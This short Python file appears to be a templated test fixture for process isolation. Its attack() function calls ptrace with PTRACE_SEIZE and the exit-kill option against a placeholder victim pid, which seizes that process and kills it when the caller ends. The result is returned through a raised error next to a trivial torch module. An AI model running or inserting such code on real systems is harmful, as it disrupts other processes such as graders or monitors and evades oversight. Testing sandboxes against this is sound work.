"""Attaches to another process as its debugger, and takes it along when it ends."""

import ctypes
import torch

VICTIM = int("@VICTIM@")


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    seized = libc.ptrace(0x4206, VICTIM, ctypes.c_void_p(0), ctypes.c_void_p(0x100000))
    return f"{seized} {ctypes.get_errno()}"


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
